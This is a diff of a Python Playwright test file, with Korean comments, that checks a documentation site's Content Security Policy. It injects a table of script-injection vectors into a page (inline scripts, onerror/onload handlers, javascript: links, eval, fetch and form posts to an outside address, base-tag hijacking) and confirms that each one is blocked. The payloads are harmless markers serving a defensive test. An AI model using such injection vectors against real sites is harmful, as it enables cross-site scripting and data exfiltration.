@@ -3,51 +3,33 @@
 from __future__ import annotations
 
 import re
+from collections import Counter
 from collections.abc import Callable
-from pathlib import Path
 from typing import NamedTuple
 
 import pytest
-from inspection import WATCH, Inspector, know_the_address, places, violations
-from live import PLACES, TRAINER, Live
-from playwright.sync_api import Browser, Error, Page, Route, expect
+from inspection import Inspector, violations
+from live import until
+from playwright.sync_api import Error, Page, Route, expect
 
-from gan_docs.site.html import security
+Inspect = Callable[..., Inspector]
 
-SCROLL = """async () => {
-  for (let y = 0; y < document.body.scrollHeight; y += innerHeight) {
-    scrollTo(0, y);
-    await new Promise(requestAnimationFrame);
-  }
-}"""
-# 옮긴 클래스를 다시 style 속성으로 되돌린 모습과 견주어, 자리가 달라진 요소의 수
-SHIFTED = """(styles) => {
-  const moved = [...document.querySelectorAll("[class*=moved-]")];
-  const places = () => moved.map((element) => {
-    const { x, y, width, height } = element.getBoundingClientRect();
-    return [x, y, width, height, getComputedStyle(element).textAlign].join();
-  });
-  const before = places();
-  for (const element of moved) {
-    const name = [...element.classList].find((name) => name.startsWith("moved-"));
-    element.classList.remove(name);
-    element.style.cssText = styles[name] ?? "";
-  }
-  const after = places();
-  return [moved.length, before.filter((place, index) => place !== after[index]).length];
-}"""
-HAPPENED = """() => Boolean(
-  window.planted ||
-  getComputedStyle(document.querySelector("h1")).color === "rgb(1, 2, 3)" ||
-  [...document.querySelectorAll("p")].some((one) => getComputedStyle(one).position === "fixed")
-)"""
-OUTSIDE = "http://192.0.2.1/"
-PLANT = "window.planted = true"
 HERE = "categories/"
+OUTSIDE = "http://192.0.2.1/"
+# 해낸 것의 이름: 실행된 스크립트와, 먹힌 스타일
+HAPPENED = """() => [
+  ...(window.planted ?? []),
+  ...(getComputedStyle(document.querySelector("h1")).color === "rgb(1, 2, 3)" ? ["스타일"] : []),
+  ...([...document.querySelectorAll("p")].some((one) => getComputedStyle(one).position === "fixed")
+    ? ["스타일 속성"] : []),
+]"""
 
 
 class Intrusion(NamedTuple):
-    """끼워 넣을 것: 쪽에 심을 글, 쪽에서 부를 글, 막아야 할 지시문."""
+    """끼워 넣을 것: 막아야 할 지시문, 페이지에 심을 글, 페이지에서 부를 글.
+
+    `RUN`은 제 이름을 남기는 스크립트로, `OUT`은 제 이름을 적은 바깥의 주소로 바뀝니다.
+    """
 
     directive: str
     markup: str = ""
@@ -55,82 +37,115 @@ class Intrusion(NamedTuple):
 
 
 INTRUSIONS = {
-    "인라인 스크립트": Intrusion("script-src-elem", f"<script>{PLANT}</script>"),
-    "인라인 모듈": Intrusion("script-src-elem", f'<script type="module">{PLANT}</script>'),
-    "바깥의 스크립트": Intrusion("script-src-elem", f'<script src="{OUTSIDE}x.js"></script>'),
-    "사건 속성": Intrusion("script-src-attr", f'<img src="data:," alt="" onerror="{PLANT}">'),
-    "SVG의 사건 속성": Intrusion("script-src-attr", f'<svg onload="{PLANT}"></svg>'),
+    "인라인 스크립트": Intrusion("script-src-elem", "<script>RUN</script>"),
+    "인라인 모듈": Intrusion("script-src-elem", '<script type="module">RUN</script>'),
+    "바깥의 스크립트": Intrusion("script-src-elem", '<script src="OUT"></script>'),
+    "사건 속성": Intrusion("script-src-attr", '<img src="data:," alt="" onerror="RUN">'),
+    "SVG의 사건 속성": Intrusion("script-src-attr", '<svg onload="RUN"></svg>'),
     "스크립트 주소": Intrusion(
         "script-src-elem",
-        f'<a id="seed" href="javascript:{PLANT};void 0">x</a>',
+        '<a id="seed" href="javascript:RUN;void 0">x</a>',
         "document.querySelector('#seed').click()",
     ),
-    "eval": Intrusion("script-src", action=f"setTimeout(() => eval('{PLANT}'))"),
-    "글로 부르는 타이머": Intrusion("script-src", action=f"setTimeout('{PLANT}')"),
-    "바깥의 그림": Intrusion("img-src", f'<img src="{OUTSIDE}x.png" alt="x">'),
+    "eval": Intrusion("script-src", action="setTimeout(() => eval(`RUN`))"),
+    "글로 부르는 타이머": Intrusion("script-src", action="setTimeout(`RUN`)"),
+    "바깥의 그림": Intrusion("img-src", '<img src="OUT" alt="x">'),
     "바깥으로 보내기": Intrusion(
-        "connect-src", action=f"fetch('{OUTSIDE}', {{ mode: 'no-cors' }}).catch(() => {{}})"
+        "connect-src", action="fetch('OUT', { mode: 'no-cors' }).catch(() => {})"
     ),
-    "바깥의 스타일": Intrusion("style-src-elem", f'<link rel="stylesheet" href="{OUTSIDE}x.css">'),
+    "바깥의 스타일": Intrusion("style-src-elem", '<link rel="stylesheet" href="OUT">'),
     "바깥의 글꼴": Intrusion(
-        "font-src", action=f"new FontFace('x', 'url({OUTSIDE}x.woff2)').load().catch(() => {{}})"
+        "font-src", action="new FontFace('x', 'url(OUT)').load().catch(() => {})"
     ),
-    "바깥의 소리": Intrusion("media-src", f'<audio src="{OUTSIDE}x.mp3" preload="auto"></audio>'),
-    "끼운 쪽": Intrusion("frame-src", f'<iframe src="{OUTSIDE}"></iframe>'),
-    "플러그인": Intrusion("object-src", f'<object data="{OUTSIDE}" type="text/html"></object>'),
-    "바깥의 양식": Intrusion(
-        "form-action",
-        f'<form id="seed" action="{OUTSIDE}" method="post"></form>',
-        "document.querySelector('#seed').submit()",
-    ),
-    "주소의 기준": Intrusion("base-uri", f'<base href="{OUTSIDE}">'),
+    "바깥의 소리": Intrusion("media-src", '<audio src="OUT" preload="auto"></audio>'),
+    "끼운 페이지": Intrusion("frame-src", '<iframe src="OUT"></iframe>'),
+    "플러그인": Intrusion("object-src", '<object data="OUT" type="text/html"></object>'),
     "다른 곳의 일꾼": Intrusion(
-        "worker-src",
-        action=f"new Worker(URL.createObjectURL(new Blob(['fetch(\"{OUTSIDE}\")'])))",
+        "worker-src", action="new Worker(URL.createObjectURL(new Blob([`fetch('OUT')`])))"
     ),
     "스타일": Intrusion("style-src-elem", "<style>h1 { color: rgb(1, 2, 3) !important }</style>"),
     "스타일 속성": Intrusion("style-src-attr", '<p style="position: fixed">x</p>'),
 }
+# 페이지를 떠나게 하거나 다른 주소를 모두 바꾸어, 따로 심을 것
+ALONE = {
+    "바깥의 양식": Intrusion(
+        "form-action",
+        '<form id="form" action="OUT" method="post"></form>',
+        "document.querySelector('#form').submit()",
+    ),
+    "주소의 기준": Intrusion("base-uri", '<base href="OUT/"><img src="x.png" alt="x">'),
+}
+GROUPS = [INTRUSIONS, *({name: one} for name, one in ALONE.items())]
 
 
-@pytest.fixture
-def watched(open_tab: Callable[..., Page]) -> Page:
-    page = open_tab()
-    page.add_init_script(WATCH)
-    return page
+@pytest.mark.parametrize("group", GROUPS, ids=lambda group: "·".join(group)[:20])
+def test_every_intrusion_is_stopped(inspect: Inspect, group: dict[str, Intrusion]) -> None:
+    inspector = inspect()
+    reached = intrude(inspector, group)
+    wanted = Counter(one.directive for one in group.values())
+    until(inspector.page, lambda: wanted <= stopped(inspector.page))
+    assert happened(inspector.page, reached) == set()
 
 
-def test_no_page_breaks_the_policy(watched: Page, address: str, built_site: Path) -> None:
-    visited, broken = places(built_site), {}
-    assert len(visited) > 30 and "404.html" in visited
-    for place in visited:
-        watched.goto(address + place)
-        watched.evaluate(SCROLL)
-        if found := violations(watched):
-            broken[place] = found
-    assert not broken
+@pytest.mark.parametrize("group", GROUPS, ids=lambda group: "·".join(group)[:20])
+def test_without_the_policy_every_intrusion_succeeds(
+    inspect: Inspect, group: dict[str, Intrusion]
+) -> None:
+    inspector = inspect()
+    reached = intrude(inspector, group, closed=False)
+    until(inspector.page, lambda: happened(inspector.page, reached) == {*group})
 
 
-def test_turning_every_page_breaks_nothing(watched: Page, address: str, built_site: Path) -> None:
-    know_the_address(watched, address, built_site)
-    watched.goto(address)
-    watched.evaluate("window.neverReloaded = true")
-    turned = 0
-    while (following := watched.locator("a.page-turn__link--next")).count():
-        title = following.locator(".page-turn__title").inner_text()
-        following.click()
-        expect(watched).to_have_title(f"{title} - GAN은")
-        turned += 1
-    assert turned > 30 and watched.evaluate("window.neverReloaded")
-    assert watched.locator("meta[http-equiv]").count() == 1
-    assert violations(watched) == []
+def stopped(page: Page) -> Counter[str]:
+    """지시문마다 막은 수입니다."""
+    return Counter(violation.partition(" ")[0] for violation in violations(page))
 
 
-def test_searching_copying_and_switching_break_nothing(browser: Browser, address: str) -> None:
-    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
-    page = context.new_page()
-    page.add_init_script(WATCH)
-    page.goto(address + "build/")
+def intrude(
+    inspector: Inspector, group: dict[str, Intrusion], closed: bool = True
+) -> dict[str, bool]:
+    """페이지에 심고 부릅니다. 바깥에 닿은 것의 이름을 모을 곳을 돌려줍니다."""
+    page, reached = inspector.page, dict[str, bool]()
+    numbers = {name: f"{OUTSIDE}{number}" for number, name in enumerate(group)}
+
+    def written(name: str, text: str) -> str:
+        run = f"(window.planted ??= []).push('{name}')"
+        return text.replace("RUN", run).replace("OUT", numbers[name])
+
+    def answer(route: Route) -> None:
+        reached.update({n: True for n, out in numbers.items() if route.request.url.startswith(out)})
+        route.fulfill(body="", headers={"access-control-allow-origin": "*"})
+
+    def planted(route: Route) -> None:
+        response = route.fetch()
+        body = response.text()
+        if not closed:
+            body = body.replace('http-equiv="Content-Security-Policy"', 'name="open"')
+        markup = "".join(written(name, one.markup) for name, one in group.items())
+        assert body.count("</article>") == 1
+        body = body.replace("</article>", f"{markup}</article>")
+        route.fulfill(response=response, body=body)
+
+    page.context.route(f"{OUTSIDE}**", answer)
+    page.route(inspector.address + HERE, planted)
+    page.goto(inspector.address + HERE, wait_until="domcontentloaded")
+    for name, one in group.items():
+        page.evaluate(f"() => {{ {written(name, one.action)} }}")
+    return reached
+
+
+def happened(page: Page, reached: dict[str, bool]) -> set[str]:
+    """끼워 넣은 것 가운데 무언가를 해낸 것입니다."""
+    try:
+        return {*reached, *page.evaluate(HAPPENED)}
+    except Error:  # 다른 페이지로 떠나는 중
+        return {*reached}
+
+
+def test_searching_copying_and_switching_break_nothing(inspect: Inspect) -> None:
+    inspector = inspect(permissions=["clipboard-read", "clipboard-write"])
+    page = inspector.page
+    inspector.open("build/")
     page.locator("label[title='어두운 화면으로']").click()
     expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
     page.locator(".md-code__button[data-md-type=copy]").locator("visible=true").first.click()
@@ -143,99 +158,3 @@ def test_searching_copying_and_switching_break_nothing(browser: Browser, address
     page.emulate_media(media="print")
     page.pdf()
     assert violations(page) == []
-    context.close()
-
-
-@pytest.mark.parametrize("tag", PLACES)
-def test_an_open_element_breaks_nothing(watched: Page, address: str, tag: str) -> None:
-    watched.goto(address + PLACES[tag])
-    live = Live(watched, tag).start()
-    if tag == TRAINER:
-        live.button("시작").click()
-        live.wait_steps(5)
-        live.button("PyTorch와 같은지 확인").click()
-        live.says("같습니다")
-    assert violations(watched) == []
-
-
-def test_moved_styles_keep_every_place(watched: Page, address: str, built_site: Path) -> None:
-    rules = (built_site / security.STYLESHEET).read_text("utf-8").splitlines()
-    styles = dict(rule.removeprefix(".").removesuffix("}").split("{") for rule in rules)
-    bare = {name: text.replace("!important", "") for name, text in styles.items()}
-    counts = {}
-    for place in places(built_site):
-        watched.goto(address + place)
-        counts[place], shifted = watched.evaluate(SHIFTED, bare)
-        assert shifted == 0, place
-    assert sum(counts.values()) > 1000
-    watched.goto(address + max(counts, key=lambda place: counts[place]))
-    assert watched.evaluate(SHIFTED, {})[1] > 0  # 옮긴 것이 사라지면 자리가 달라짐
-
-
-@pytest.mark.parametrize("name", INTRUSIONS)
-def test_an_intrusion_is_stopped(watched: Page, address: str, name: str) -> None:
-    intrusion = INTRUSIONS[name]
-    reached = intrude(watched, address, intrusion)
-    watched.wait_for_function(
-        "(directive) => window.violations?.some((one) => one.startsWith(directive))",
-        arg=intrusion.directive,
-    )
-    assert not happened(watched, reached)
-
-
-@pytest.mark.parametrize("name", INTRUSIONS)
-def test_without_the_policy_the_intrusion_succeeds(watched: Page, address: str, name: str) -> None:
-    reached = intrude(watched, address, INTRUSIONS[name], closed=False)
-    for _ in range(100):
-        if happened(watched, reached):
-            return
-        watched.wait_for_timeout(50)
-    pytest.fail(f"정책이 없어도 일어나지 않아, 막았다고 말할 수 없습니다: {name}")
-
-
-def test_a_stale_hash_is_seen(inspect: Callable[..., Inspector], address: str) -> None:
-    inspector = inspect()
-    assert inspector.visit("style/") == []
-
-    def edited(route: Route) -> None:
-        response = route.fetch()
-        body = response.text().replace("__md_hash=e=>", "__md_hash= e=>", 1)
-        assert body != response.text()
-        route.fulfill(response=response, body=body)
-
-    inspector.page.route(f"{address}style/", edited)
-    flaws = inspector.visit("style/")
-    assert any("Content Security Policy" in flaw for flaw in flaws), flaws
-
-
-def intrude(page: Page, address: str, intrusion: Intrusion, closed: bool = True) -> list[str]:
-    """쪽에 심고 부릅니다. 바깥에 닿은 요청을 모을 목록을 돌려줍니다."""
-    reached: list[str] = []
-
-    def answer(route: Route) -> None:
-        reached.append(route.request.url)
-        route.fulfill(body="", headers={"access-control-allow-origin": "*"})
-
-    def planted(route: Route) -> None:
-        response = route.fetch()
-        body = response.text()
-        if not closed:
-            body = body.replace('http-equiv="Content-Security-Policy"', 'name="open"')
-        place = "</title>" if "<base" in intrusion.markup else "</article>"
-        assert body.count(place) == 1
-        body = body.replace(place, f"{place}{intrusion.markup}")
-        route.fulfill(response=response, body=body)
-
-    page.context.route(f"{OUTSIDE}**", answer)
-    page.route(address + HERE, planted)
-    page.goto(address + HERE, wait_until="domcontentloaded")
-    page.evaluate(f"() => {{ {intrusion.action} }}")
-    return reached
-
-
-def happened(page: Page, reached: list[str]) -> bool:
-    """끼워 넣은 것이 무언가를 해냈는지 봅니다."""
-    try:
-        return bool(reached) or page.evaluate(HAPPENED)
-    except Error:  # 다른 쪽으로 떠나는 중
-        return bool(reached)
